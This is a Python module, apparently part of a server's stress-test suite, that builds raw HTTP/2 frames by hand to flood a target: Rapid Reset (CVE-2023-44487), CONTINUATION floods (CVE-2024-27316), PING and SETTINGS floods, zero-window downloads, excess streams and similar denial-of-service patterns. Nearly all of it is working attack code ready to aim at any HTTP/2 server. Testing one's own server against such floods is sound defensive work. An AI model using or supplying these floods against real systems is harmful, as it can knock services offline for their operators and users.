"""Floods over HTTP/2, in frames made by hand: no library would send them, and none has to keep up."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Final

import trio

from ._client import Connection, get
from ._http1_floods import Target, many

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL: Final = (8).to_bytes(4, "big")
WINDOW_ZERO: Final = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def request(stream: int, path: bytes, *, method: bytes = b"\x82", end: bool = True) -> bytes:
    """The HEADERS of a request; `method` is HPACK's (0x82: GET, 0x83: POST), the rest literals without indexing."""
    block = method + b"\x86\x04" + bytes((len(path),)) + path + b"\x01\x09localhost"
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


OPENING: Final = PREFACE + frame(SETTINGS)


async def rapid_reset(target: Target, count: int) -> None:
    """Requests that are reset at once (CVE-2023-44487)."""
    frames = (request(stream, b"/sleep/5") + frame(RST_STREAM, 0, stream, CANCEL) for stream in range(1, 2 * count, 2))
    await many(1, target, _exchange(OPENING + b"".join(frames), hold=1.0))


async def continuations(target: Target, count: int) -> None:
    """A head that never ends (CVE-2024-27316)."""
    flood = frame(HEADERS, END_STREAM, 1, b"\x82") + frame(CONTINUATION, 0, 1, bytes(1024)) * count
    await many(1, target, _exchange(OPENING + flood))


async def pings(target: Target, count: int) -> None:
    """PING, whose answers are read."""
    await many(1, target, _exchange(OPENING + frame(PING, 0, 0, bytes(8)) * count))


async def pings_unread(target: Target, count: int) -> None:
    """PING, whose answers are not read (CVE-2019-9512)."""
    await many(1, target, _exchange(OPENING + frame(PING, 0, 0, bytes(8)) * count, hold=3.0, read=False))


async def settings(target: Target, count: int) -> None:
    """SETTINGS, whose acknowledgements are read (CVE-2019-9515)."""
    await many(1, target, _exchange(OPENING + frame(SETTINGS) * count))


async def closed_window(target: Target, count: int) -> None:
    """Downloads of 10 MiB for which there never is a window."""
    opening = PREFACE + frame(SETTINGS, 0, 0, WINDOW_ZERO)
    frames = (request(stream, b"/big/10") for stream in range(1, 2 * count, 2))
    await many(1, target, _exchange(opening + b"".join(frames), hold=target.patience))


async def too_many_streams(target: Target, count: int) -> None:
    """More streams at once than were allowed."""
    frames = (request(stream, b"/sleep/1") for stream in range(1, 2 * count, 2))
    await many(1, target, _exchange(OPENING + b"".join(frames), hold=2.0))


async def aborted_downloads(target: Target, count: int) -> None:
    """Connections that leave in the middle of a download."""

    async def one(connection: Connection) -> None:
        await connection.send(OPENING + request(1, b"/big/100"))
        await connection.receive(4096)
        connection.reset()

    await many(count, target, one)


async def unread_uploads(target: Target, count: int) -> None:
    """Bodies sent on after the answer."""
    data = frame(DATA, 0, 1, bytes(1024)) * 60
    await many(count, target, _exchange(OPENING + request(1, b"/refuse", method=b"\x83", end=False) + data, hold=0.2))


async def prefaces(target: Target, count: int) -> None:
    """HTTP/1.1 behind a preface, and prefaces that stop."""
    await many(count, target, _exchange(PREFACE + get("/")))
    await many(count, target, _exchange(PREFACE[:20]))


def _exchange(data: bytes, *, hold: float = 0.2, read: bool = True) -> Callable[[Connection], Awaitable[object]]:
    """Send, for at most half a minute, while what comes is read; then stay for `hold` seconds."""

    async def one(connection: Connection) -> None:
        async with trio.open_nursery() as nursery:
            if read:
                nursery.start_soon(connection.ended)
            with trio.move_on_after(30 if read else hold):
                try:
                    await connection.send(data)
                except OSError:
                    pass  # it has had enough
            await trio.sleep(hold)
            nursery.cancel_scope.cancel()

    return one
